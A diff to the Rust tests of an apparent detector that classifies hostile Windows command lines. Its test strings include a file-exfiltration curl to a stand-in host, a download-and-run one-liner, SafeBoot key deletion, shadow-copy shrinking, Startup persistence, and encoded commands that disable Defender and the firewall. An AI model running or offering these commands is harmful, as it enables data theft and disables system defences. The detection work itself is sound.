@@ -219,6 +219,11 @@ mod tests {
     #[test]
     fn the_patterns_are_sound() {
         assert!(classes("ver").is_empty());
+        for row in rows(TABLE) {
+            for pattern in row.iter().skip(3) {
+                assert!(Regex::new(pattern).is_ok(), "{pattern}");
+            }
+        }
     }
 
     #[test]
@@ -360,6 +365,8 @@ mod tests {
             "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U2V0LU1wUHJlZmVyZW5jZSAtRGlzYWJsZVJlYWx0aW1lTW9uaXRvcmluZyAkdHJ1ZQ=='))",
             "net localgroup \"Remote Desktop Users\" Everyone /add",
             "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
+            "curl -F file=@C:\\Users\\ann\\Documents\\list.xlsx https://a.example/",
+            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot /f",
             "Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'CONTOSO\\Domain Users'",
             "For Each c In Array(110,101,116,115,104,32,97,100,118,102,105,114,101,119,97,108,108,32,115,101,116,32,97,108,108,112,114,111,102,105,108,101,115,32,115,116,97,116,101,32,111,102,102)\r\ns = s & Chr(c)\r\nNext",
         ] {
@@ -450,15 +457,6 @@ mod tests {
     }
 
     #[test]
-    fn the_tables_hold_sound_patterns() {
-        for row in rows(TABLE) {
-            for pattern in row.iter().skip(3) {
-                assert!(Regex::new(pattern).is_ok(), "{pattern}");
-            }
-        }
-    }
-
-    #[test]
     fn commands_are_quoted_as_written() {
         let quoted = |line: &str, class: &str| {
             let reading = read(&peel(line), "x");
@@ -469,6 +467,19 @@ mod tests {
         assert_eq!(quoted(&format!("@Echo Off\r\n\r\n  {line}\r\nExit"), "weakens-firewall"), line);
         let line = "IEX (IWR https://A.example/Run.ps1)";
         assert_eq!(quoted(line, "download-and-run"), line);
+    }
+
+    #[test]
+    fn what_is_grave_only_sometimes_is_found() {
+        for (line, class) in [
+            (r#"copy a.vbs C:\ProgramData\Microsoft\Windows\"Start Menu"\Programs\Startup\"#, "persistence medium"),
+            (r"Rename-Item C:\Windows\System32\wuaueng.dll wuaueng.bak", "weakens-updates medium"),
+            ("certutil -addstore Disallowed vendor.cer", "distrusts-certificate medium"),
+            ("net localgroup \"Remote Desktop Users\" CONTOSO\\helpdesk /add", "opens-remote-access medium"),
+            ("[Convert]::FromBase64String('V2VsY29tZSB0byBDb250b3NvLCBCZXJsaW4=')", "encoded-command medium"),
+        ] {
+            assert!(classes(line).contains(&class.to_owned()), "{line}: {:?}", classes(line));
+        }
     }
 
     #[test]
